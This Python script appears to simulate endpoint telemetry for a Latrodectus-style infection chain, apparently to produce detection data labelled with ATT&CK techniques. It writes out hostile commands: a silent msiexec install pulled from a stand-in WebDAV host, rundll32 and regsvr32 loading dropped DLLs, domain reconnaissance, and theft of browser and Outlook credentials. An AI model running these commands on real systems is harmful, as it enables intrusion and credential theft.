"""A script mounts a share of the web and installs a package from it; rundll32 runs its library, which moves, registers a
task, hides its old file in a stream, asks about the domain and brings a second library. Resembles Latrodectus and IcedID's
heirs (2024-2025)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-06-25T16:31:08", "user": "NORDBAU\\p.lindqvist", "home": "C:\\Users\\p.lindqvist",
           "computer": "NB-PC-114",
           "os_version": (10, 0, 22631)}
SHARE = r"\\wire.lnvest.example@80\DavWWWRoot\share"
OUTLOOK = r"HKCU\Software\Microsoft\Office\%s\Outlook\Profiles\Outlook\9375CFF0413111d3B88A00104B2A6676\00000002"
WEB, CONTROL = ("203.0.113.31", 80), ("198.51.100.66", 443)
QUESTIONS = (("asks for the network's settings", "low", "T1016", "ipconfig /all", "ipconfig"),
             ("asks what system this is", "low", "T1082", "systeminfo", "systeminfo"),
             ("asks which domains are trusted", "medium", "T1482", "nltest /domain_trusts /all_trusts", "nltest"),
             ("asks which computers there are", "medium", ("T1018", "T1135"), "net view /all /domain", "net view"),
             ("asks who is a domain administrator", "medium", ("T1069.002", "T1087.002"),
              'net group "Domain Admins" /domain',
              "Domain Admins"),
             ("asks for antivirus programs", "low", "T1518.001",
              r"wmic.exe /Node:localhost /Namespace:\\root\SecurityCenter2 Path AntiVirusProduct Get * /Format:List",
              "AntiVirusProduct"))


def story(c):
    desktop = Desktop(c)
    c.host(WEB[0], "wire.lnvest.example")
    c.host(CONTROL[0], "riverhasus.example")
    web_client = c.process(c.system_root + r"\System32\svchost.exe", desktop.services, started_before=True, session=0,
                           command_line=r"C:\Windows\System32\svchost.exe -k LocalService -p -s WebClient",
                           user="NT AUTHORITY\\LOCAL SERVICE", sid="S-1-5-19", integrity="System", **deeds.MICROSOFT)
    installer = c.system(c.system_root + r"\System32\msiexec.exe", c.system_root + r"\system32\msiexec.exe /V",
                         parent=desktop.services)
    desktop.murmur(7)
    script = c.home + r"\Downloads\Document_i79_13b364058-83054409r0449-8089z4.js"
    host = deeds.tool(c, desktop.explorer, '"C:\\Windows\\System32\\WScript.exe" "%s"' % script)
    c.read(host, script, 620_000, 131072)
    with deeds.told(c, "a downloaded script maps a drive of a share on the web", "medium",
                    ("T1021.002", "T1105", "T1071.001", "T1059.007"), host,
                    ("DavWWWRoot", "wire.lnvest.example")) as helpers:
        helpers += deeds.command(c, host, "net use A: %s /persistent:no" % SHARE, shell=False)
        c.exchange(web_client, WEB, 51200, [310, 320], [900, 1400])
    with deeds.told(c, "has a package installed silently from that share", "high", ("T1218.007", "T1105"), (host, installer),
                    ("slack.msi", "DavWWWRoot", "msiexec")) as helpers:
        helpers += deeds.command(c, host, r"msiexec.exe /i %s\slack.msi /qn" % SHARE, shell=False)
        c.exchange(web_client, WEB, 51201, [310], [14_600] * 20)
        c.drop(installer, r"C:\Windows\Installer\5a1c2e.msi", 480_000, 131072)
    library = c.home + r"\AppData\Roaming\aclui.dll"
    c.drop(installer, library, 290_000)
    custom = c.spawn(installer, r"C:\Windows\Installer\MSI4E1A.tmp",
                     '"C:\\Windows\\Installer\\MSI4E1A.tmp" /DontWait C:\\Windows\\SysWOW64\\rundll32.exe '
                     '%s, edit' % library,
                     user=c.user, integrity="Medium", session=1, sid=desktop.explorer.sid, company="Caphyon LTD")
    c.exit(host)
    with deeds.told(c, "rundll32 runs a library that lies in the profile", "medium", ("T1218.011", "T1574.001"),
                    (custom, installer),
                    ("aclui.dll", "rundll32")) as helpers:
        first = deeds.tool(c, custom, '"C:\\Windows\\System32\\rundll32.exe" %s, edit' % library)
        helpers.append(first)
        c.load(first, library)
    c.exit(custom)
    c.query(first, r"HKLM\SYSTEM\CurrentControlSet\Control\ComputerName\ActiveComputerName\ComputerName", "REG_SZ",
            c.computer)
    moved = c.home + r"\AppData\Roaming\Custom_update\Update_a3f18c02.dll"
    with c.behaviour("copies its library to a folder that sounds like updates", "medium",
                     ("T1036.005", "T1036", "T1105", "T1070.010"), first,
                     "Update_a3f18c02.dll"):
        c.folder(first, moved.rsplit("\\", 1)[0])
        c.read(first, library, 290_000)
        c.drop(first, moved, 290_000)
    with deeds.told(c, "registers a task that runs the library", "high", "T1053.005", first,
                    ("Updater", "Update_a3f18c02.dll")) as helpers:
        c.load(first, c.system_root + r"\System32\taskschd.dll")
        deeds.task(c, desktop, "Updater", 23)
        again = deeds.tool(c, desktop.scheduler, 'rundll32.exe "%s", edit' % moved, user=c.user, integrity="Medium",
                           session=1,
                           sid=desktop.explorer.sid)
        c.load(again, moved)
        c.exit(again)
        helpers.append(again)
    second = deeds.tool(c, first, '"C:\\Windows\\System32\\rundll32.exe" "%s", edit' % moved)
    c.load(second, moved)
    with c.behaviour("hides its old file in a stream and deletes it while it runs", "medium", ("T1070.004", "T1564.004"),
                     first,
                     ("aclui.dll", ":wtfbbq")):
        c.rename(first, library, library + ":wtfbbq")
        c.delete(first, library)
    c.exit(first)
    desktop.resolve()
    with c.behaviour("rundll32 asks a server again and again", "medium", ("T1071.001", "T1071", "T1573"), second,
                     "riverhasus.example"):
        for number in range(5):
            c.exchange(second, CONTROL, 51210 + number, [517, 680], [4100, 320])
            c.wait(12)
    for what, severity, technique, line, about in QUESTIONS:
        with deeds.told(c, what, severity, technique, second, about) as helpers:
            helpers += deeds.command(c, second, line)
    desktop.murmur(3)
    later = c.home + r"\AppData\Local\Temp\ioqm3e_.dll"
    with c.behaviour("brings a second library", "medium", "T1105", second, "ioqm3e_.dll"):
        c.exchange(second, CONTROL, 51230, [700], [14_600] * 24)
        c.drop(second, later, 350_000)
    with deeds.told(c, "regsvr32 runs the second library", "medium", "T1218.010", second,
                    ("ioqm3e_.dll", "regsvr32")) as helpers:
        third = deeds.tool(c, second, 'regsvr32.exe /s "%s"' % later)
        helpers.append(third)
        c.load(third, later)
    with c.behaviour("takes the passwords of browsers", "high", "T1555.003", third, "Login Data"):
        for base in (r"\AppData\Local\Google\Chrome\User Data", r"\AppData\Local\Microsoft\Edge\User Data"):
            c.read(third, c.home + base + r"\Local State", 80_000)
            c.read(third, c.home + base + r"\Default\Login Data", 46_000)
    with c.behaviour("reads the mail accounts", "high", ("T1552.002", "T1555", "T1114.001", "T1087.003"), third,
                     ("9375CFF0413111d3B88A00104B2A6676", "Outlook")):
        for version in ("15.0", "16.0"):
            key = OUTLOOK % version
            c.open_key(third, key, result="SUCCESS" if version == "16.0" else "NAME NOT FOUND")
        c.query(third, key + r"\IMAP Server", "REG_BINARY", b"i\0m\0a\0p\0")
        c.query(third, key + r"\IMAP Password", "REG_BINARY", bytes(80))
    with deeds.told(c, "puts its code into a helper of Windows that it starts", "medium",
                    ("T1055", "T1055.012", "T1055.004"), third,
                    "dllhost.exe") as helpers:
        filled = deeds.tool(c, third, "dllhost.exe")
        deeds.thread(c, filled)
        helpers.append(filled)
    c.exchange(filled, ("198.51.100.67", 443), 51240, [300] * 4, [500] * 4)
    c.exit(third)
    desktop.murmur(5)
